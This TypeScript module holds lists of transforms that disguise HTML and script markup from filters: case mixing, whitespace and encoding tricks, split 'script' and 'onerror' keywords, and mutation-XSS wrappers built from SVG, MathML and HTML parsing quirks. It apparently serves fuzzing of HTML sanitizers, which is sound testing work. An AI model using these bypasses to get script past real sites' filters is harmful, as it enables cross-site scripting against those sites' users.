/** Spellings that hide markup from a filter, but not from a browser or from a program that decodes twice. */
type Obfuscation = (text: string) => string

const mixed = (text: string) => [...text].map((character, n) => (n % 2 ? character.toUpperCase() : character)).join('')
const tagName = /<(\/?)([a-z:]+)/gi
const hex = (character: string) => character.charCodeAt(0).toString(16)

/** Still markup for a parser as lenient as a browser's. */
export const lenient: readonly Obfuscation[] = [
  (text) => text.replace(tagName, (_, slash: string, name: string) => `<${slash}${mixed(name)}`),
  (text) => text.replace(/ (on\w+)=/g, (_, name: string) => ` ${mixed(name)}=`),
  (text) => text.replace(/<([a-z]+) /gi, '<$1/'),
  (text) => text.replace(/ (\w+=)/g, '/$1'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replace(/=/g, ' = '),
  (text) => text.replace(/>$/, ''),
  (text) => text.replace(/>$/, ' x="'),
  (text) => `<${text}`,
  (text) => `<!-->${text}`,
  (text) => `<!--x--!>${text}`,
  (text) => `<?x ?>${text}`,
  (text) => `<![CDATA[x]]>${text}`,
  (text) => `\ufeff\u200b${text}`,
  (text) => text.replace(/javascript:/g, 'java&Tab;script&colon;'),
  (text) =>
    text.replace(/(on\w+=["']?)([a-z])/g, (_, name: string, character: string) => `${name}&#x${hex(character)};`),
]

/** Markup only after decoding, or after a part is removed. */
export const encoded: readonly Obfuscation[] = [
  (text) => text.replace(/[<>"']/g, (character) => `&#${character.charCodeAt(0)};`),
  (text) => text.replace(/[<>"']/g, (character) => `&#x${hex(character)}`),
  (text) => text.replace(/</g, '&lt').replace(/>/g, '&gt'),
  (text) => text.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;'),
  (text) => text.replace(/[<>"' ]/g, (character) => `%${hex(character)}`),
  (text) => text.replace(/[<>"' ]/g, (character) => `%25${hex(character)}`),
  (text) => text.replace(/[<>"']/g, (character) => `\\u00${hex(character)}`),
  (text) => text.replace(/[<>"']/g, (character) => `\\x${hex(character)}`),
  (text) => text.replace(/[<>"']/g, (character) => `\\${character}`),
  (text) => text.replace(/[<>"']/g, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfee0)),
  (text) => text.replace(/</g, '\u2039').replace(/>/g, '\u203a'),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(tagName, (_, slash: string, name: string) => `<${slash}${name.slice(0, 2)}\0${name.slice(2)}`),
  (text) => text.replace(/<script/gi, '<scr<script>ipt').replace(/onerror/g, 'ononerrorerror'),
  (text) => text.replace(/s(?=cript)/g, '\u017f'),
  (text) => text.replace(/</g, '<\u0001'),
  (text) => `\u202e${[...text].toReversed().join('')}\u202c`,
]

/**
 * Mutation XSS: markup that changes its meaning when it is parsed, serialised and parsed again, where the rules of HTML,
 * SVG and MathML meet.
 */
export const mutations: readonly Obfuscation[] = [
  (markup) => `<svg><style>${markup}</style></svg>`,
  (markup) => `<math><style>${markup}</style></math>`,
  (markup) => `<svg></p><style><a id="</style>${markup}">`,
  (markup) => `<svg></br><title><b id="</title>${markup}">`,
  (markup) => `<svg><desc><noembed><b title="</noembed>${markup}"></b></noembed></desc></svg>`,
  (markup) => `<noscript><p title="</noscript>${markup}"></noscript>`,
  (markup) => `<noembed><p title="</noembed>${markup}"></noembed>`,
  (markup) => `<noframes><p title="</noframes>${markup}"></noframes>`,
  (markup) => `<xmp><p title="</xmp>${markup}"></xmp>`,
  (markup) => `<listing>&lt;b title="${markup}"&gt;</listing>`,
  (markup) => `<plaintext><p title="</plaintext>${markup}">`,
  (markup) => `<textarea><p title="</textarea>${markup}"></textarea>`,
  (markup) => `<math><mtext><table><mglyph><style><!--</style>${markup}--></style></mglyph></table></mtext></math>`,
  (markup) => `<math><annotation-xml encoding="text/html"><style>${markup}</style></annotation-xml></math>`,
  (markup) => `<form><math><mtext></form><form><mglyph><style></math>${markup}`,
  (markup) => `<svg><foreignObject><math><mi><style><b title="</style>${markup}">`,
  (markup) => `<select><template>${markup}</template></select>`,
  (markup) => `<template><template>${markup}</template></template>`,
  (markup) => `<table><caption><svg><b>${markup}`,
  (markup) => `<table><td><b><table></b>${markup}`,
  (markup) => `<a><table><a>${markup}</table></a>`,
  (markup) => `<p><svg><p>${markup}</p></svg></p>`,
  (markup) => `<option><style></option></select><b title="</style>${markup}"></style></option>`,
  (markup) => `<iframe><p title="</iframe>${markup}"></iframe>`,
  (markup) => `<title><p title="</title>${markup}"></title>`,
  (markup) => `<b title="\`${markup}">\`</b>`,
  (markup) => `<!--<b title="-->${markup}">`,
  (markup) => `<![CDATA[<b title="]]>${markup}">`,
  (markup) => `<?x <b title="?>${markup}">`,
  (markup) => '<div>'.repeat(520) + markup,
]
